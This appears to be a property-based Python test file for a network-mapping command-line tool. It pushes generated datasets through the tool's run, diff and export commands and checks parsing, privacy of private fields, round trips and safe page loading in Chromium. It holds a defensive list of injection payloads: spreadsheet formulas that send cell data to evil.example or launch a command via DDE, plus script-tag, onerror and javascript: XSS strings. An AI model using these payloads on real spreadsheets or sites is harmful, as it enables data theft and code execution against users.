"""Property-based: hostile datasets through every writing command (hypothesis).

Each generated case is a small dataset (organisations, networks, people, memberships, ties)
whose names, regions, roles, notes and an extra column are drawn from hostile text: formula
prefixes, markup, control characters, lone surrogates, invisible characters and long cells,
with random private flags. It is written as YAML and given to ``run``, ``diff`` and
``export`` (every format), with and without ``--roles-only``, through click's CliRunner.
Asserted for every case:

- no traceback (exit 0, or 1 with a clean message when validation refuses the input);
- every output parses: JSON strictly (no NaN), xlsx with openpyxl, HTML with lxml, GraphML/GEXF as XML;
- no private marker (a private node's name, id or region; a person's name) in any file written
  with ``--roles-only``;
- ``import(export(x)) == x`` (same fingerprint) for the formats that claim to carry everything
  (graphml, json, csv, kumu, xlsx).

CI runs ``NETMAP_HYPOTHESIS_EXAMPLES`` cases (default 12, about a minute); a longer search::

    NETMAP_HYPOTHESIS_EXAMPLES=500 .venv/bin/python -m pytest -q -p no:cacheprovider tests/test_properties.py
"""
from __future__ import annotations

import json
import os
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

hypothesis = pytest.importorskip("hypothesis")
from hypothesis import HealthCheck, Phase, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from netmap.cli import main  # noqa: E402

EXAMPLES = int(os.environ.get("NETMAP_HYPOTHESIS_EXAMPLES", "12"))
#: Shrinking reruns every command many times; CI reports the case as found (set NETMAP_HYPOTHESIS_SHRINK=1 to shrink).
PHASES = [Phase.explicit, Phase.generate, *([Phase.shrink] if os.environ.get("NETMAP_HYPOTHESIS_SHRINK") else [])]
MARK = "xqzgeheim"  # in every private name, id and region and every person's name; never in ordinary text
HOSTILE = ["=HYPERLINK(\"http://evil.example/?d=\"&A2,\"x\")", "=cmd|' /C calc'!A0", "+31", "-1", "@SUM(A1)",
           "\t=1", "\r=1", "'=1", "<script>alert(1)</script>", "</script><b>", "![p](http://evil.example/p.gif)",
           "[klik](javascript:alert(1))", "# kop", "<img src=x onerror=alert(1)>", "&lt;", "{{x}}", "@@DATA@@",
           "\u200b", "\ufeff", "\u00a0", "\u202e", "caf\u0065\u0301", "\x00", "\x07", "\x1b[31m", "\ud800",
           "__proto__", "constructor", "NaN", "nan", "Infinity", "ja", "no", "010", "a;b", "a|b", "x" * 3000]

piece = st.one_of(st.sampled_from(HOSTILE), st.text(st.characters(codec=None, exclude_categories=()), max_size=8))
hostile_text = st.lists(piece, min_size=0, max_size=3).map("".join)


@st.composite
def datasets(draw):
    n_org = draw(st.integers(2, 4))
    n_net = draw(st.integers(1, 2))
    n_person = draw(st.integers(0, 2))
    orgs, nets, people = [], [], []
    for i in range(n_org):
        private = draw(st.booleans())
        row = {"id": f"{MARK}_o{i}" if private else f"org{i}", "level": draw(st.sampled_from(["I", "II", "III", "IV"])),
               "name": (f"{MARK} " if private else "N") + draw(hostile_text),
               "type": draw(st.sampled_from(["gemeente", "aanbieder", "__proto__", "=1"])),
               "region": (MARK if private else "") + draw(hostile_text),
               "notitie": draw(hostile_text)}
        if private:
            row["private"] = "ja"
        orgs.append(row)
    for i in range(n_net):
        nets.append({"id": f"net{i}", "name": "Net " + draw(hostile_text), "level": "II", "type": "rkj"})
    for i in range(n_person):
        people.append({"id": f"p{i}", "name": f"{MARK} " + draw(hostile_text), "role": "coach",
                       "level": "I", "home_organisation_id": orgs[0]["id"]})
    actors = [r["id"] for r in orgs + people]
    memberships = [{"member_id": a, "network_id": nets[draw(st.integers(0, n_net - 1))]["id"]} for a in actors]
    ties = []
    for _ in range(draw(st.integers(0, 3))):
        u, v = draw(st.sampled_from(actors)), draw(st.sampled_from(actors))
        if u != v:
            ties.append({"source_id": u, "target_id": v, "kind": "learning", "note": draw(hostile_text)})
    tables = {"organisations": orgs, "networks": nets, "memberships": memberships}
    if people:
        tables["people"] = people
    if ties:
        tables["ties"] = ties
    return tables


def _write_yaml(tables, path: Path) -> Path:
    import yaml

    text = yaml.safe_dump(tables, allow_unicode=True, sort_keys=False)
    path.write_text(text, encoding="utf-8", errors="replace")
    return path


def _ok(result) -> None:
    """The command succeeded (its input validated, so nothing may refuse it)."""
    assert _clean(result), result.output


def _clean(result) -> bool:
    """True when the command succeeded; a refusal must be one clean message, never a traceback."""
    assert result.exit_code in (0, 1), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    return result.exit_code == 0


def _strict_json(text: str):
    def refuse(name):
        raise ValueError(f"non-strict JSON constant {name}")

    return json.loads(text, parse_constant=refuse)


def _check_parses(path: Path) -> str:
    """Parse one output file by its kind; return its text (for the xlsx: the XML of its sheets)."""
    data = path.read_bytes()
    if path.suffix == ".json":
        text = data.decode("utf-8")
        _strict_json(text)
        return text
    if path.suffix == ".xlsx":
        import openpyxl

        openpyxl.load_workbook(path).close()
        with zipfile.ZipFile(path) as z:
            return "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
    text = data.decode("utf-8")
    if path.suffix in (".graphml", ".gexf"):
        ET.fromstring(data)
    elif path.suffix == ".html":
        import lxml.html

        doc = lxml.html.fromstring(data)
        assert doc.find("head") is not None
        if 'id="netmap-data"' in text:  # the map's data parses as strict JSON
            _strict_json(doc.get_element_by_id("netmap-data").text_content())
    return text


_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")

_SURROGATE = re.compile("[\ud800-\udfff]")


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from _strings(v)
CLAIMS_EVERYTHING = {"graphml": "netmap.graphml", "json": "netmap.json", "csv": "netmap-csv",
                     "kumu": "netmap-kumu.xlsx", "xlsx": "netmap-invoer.xlsx"}


@settings(max_examples=EXAMPLES, deadline=None, phases=PHASES,
          derandomize=not os.environ.get("NETMAP_HYPOTHESIS_RANDOM"),
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture,
                                 HealthCheck.data_too_large, HealthCheck.large_base_example])
@given(old=datasets(), new=datasets())
def test_hostile_datasets_through_every_writer(tmp_path_factory, old, new):
    from netmap.dataset import read_dataset
    from netmap.io.imports import import_file
    from netmap.io.writers import to_tables
    from netmap.runs import fingerprint

    tmp = tmp_path_factory.mktemp("case")
    a, b = _write_yaml(old, tmp / "oud.yaml"), _write_yaml(new, tmp / "nieuw.yaml")
    runner = CliRunner()
    if not _clean(runner.invoke(main, ["validate", str(a)])):
        return  # refused with a clean message: nothing is written, nothing to check
    b_valid = _clean(runner.invoke(main, ["validate", str(b)]))
    outputs: dict[str, bool] = {}  # folder -> roles_only
    for roles in (False, True):
        flag = ["--roles-only"] if roles else []
        tag = "rollen" if roles else "alles"
        _ok(runner.invoke(main, ["run", str(a), "-o", str(tmp / f"run-{tag}"), *flag]))
        _ok(runner.invoke(main, ["export", str(a), "-o", str(tmp / f"export-{tag}"), *flag]))
        outputs[f"run-{tag}"] = outputs[f"export-{tag}"] = roles
        if b_valid:
            _ok(runner.invoke(main, ["diff", str(a), str(b), "-o", str(tmp / f"diff-{tag}"), *flag]))
            outputs[f"diff-{tag}"] = roles
    for folder, roles in outputs.items():
        files = [p for p in sorted((tmp / folder).rglob("*")) if p.is_file()]
        assert files, folder
        for path in files:
            text = _check_parses(path)
            if roles:
                assert MARK not in text.lower(), (folder, path.name)
    original = read_dataset(a)
    xml_safe = not any(_XML_ILLEGAL.search(text) for text in _strings(to_tables(original)))
    utf8_safe = not any(_SURROGATE.search(text) for text in _strings(to_tables(original)))
    for fmt, name in CLAIMS_EVERYTHING.items():
        if not utf8_safe or (fmt != "json" and not xml_safe):
            # UTF-8 cannot hold a lone surrogate (written as ?), XML 1.0 no control character (written as
            # U+FFFD), and the CSV reader takes a NUL for a binary file: until validation refuses control
            # characters (the readers' part of issue 12) only JSON is held to the round trip for them.
            continue
        back, _ = import_file(tmp / "export-alles" / name)
        if fingerprint(back) != fingerprint(original):
            got, want = to_tables(back), to_tables(original)
            assert {t: [r for r in rows if r not in want.get(t, [])] for t, rows in got.items()} == {
                t: [r for r in rows if r not in got.get(t, [])] for t, rows in want.items()}, fmt


def _hostile_sample() -> dict:
    """One fixed case with every hostile string as a name, region, role or note (for the browser check)."""
    import unicodedata

    # what validation accepts: control characters and lone surrogates are refused with their place (tested there)
    accepted = [x for x in HOSTILE if not any(unicodedata.category(c) in ("Cc", "Cs") for c in x)]
    orgs = [{"id": f"o{i}", "name": f"{text} {i}", "region": text, "level": "I" if i % 2 else "IV",
             "type": text[:20], "perspectives": "ouders"} for i, text in enumerate(accepted)]
    orgs.append({"id": "geheim", "name": f"{MARK} BV", "private": "ja", "level": "II"})
    nets = [{"id": "n1", "name": "<script>alert('net')</script>", "type": "rkj", "level": "I;IV",
             "themes": "=1;<b>x</b>"}]
    people = [{"id": "p1", "name": f"{MARK} Jansen", "role": "<img src=x onerror=alert(2)>",
               "home_organisation_id": "o1"}]
    members = [{"member_id": o["id"], "network_id": "n1"} for o in orgs[:12]] + [{"member_id": "p1",
                                                                                   "network_id": "n1"}]
    ties = [{"source_id": "o1", "target_id": "o2", "note": "![p](http://evil.example/p.gif)"}]
    return {"organisations": orgs, "networks": nets, "people": people, "memberships": members, "ties": ties}


@pytest.mark.browser
def test_the_pages_of_a_hostile_case_load_in_chromium_without_errors_or_outside_requests(tmp_path):
    """A sample of what the property suite writes, opened in real Chromium: no console error, no dialog
    (an escaped <script> never runs), no request leaving the page, no private marker in roles-only pages."""
    from tests.browser import launch_browser, load_page, require_chromium

    exe = require_chromium()
    tables = _hostile_sample()
    old = _write_yaml(tables, tmp_path / "oud.yaml")
    changed = {k: v for k, v in tables.items() if k != "ties"}  # the tie is gone in the new version
    new = _write_yaml(changed, tmp_path / "nieuw.yaml")
    runner = CliRunner()
    pages: list[tuple[Path, bool]] = []
    for roles in (False, True):
        flag = ["--roles-only"] if roles else []
        out = tmp_path / f"run-{roles}"
        _ok(runner.invoke(main, ["run", str(old), "-o", str(out), *flag]))
        _ok(runner.invoke(main, ["diff", str(old), str(new), "-o", str(tmp_path / f"diff-{roles}"), *flag]))
        pages += [(p, roles) for p in sorted(out.glob("*.html"))]
        pages += [(p, roles) for p in sorted((tmp_path / f"diff-{roles}").glob("*.html"))]
    assert len(pages) >= 10
    with launch_browser(exe) as context:
        for path, roles in pages:
            page = load_page(context.new_page(), path, wait=path.name.startswith("kaart"))
            assert page.console_errors == [], (path.name, page.console_errors)
            assert page.dialogs == [], (path.name, page.dialogs)
            assert page.outside_requests == [], (path.name, page.outside_requests)
            if roles:
                assert MARK not in page.evaluate("document.documentElement.outerHTML").lower(), path.name
            page.page.close()
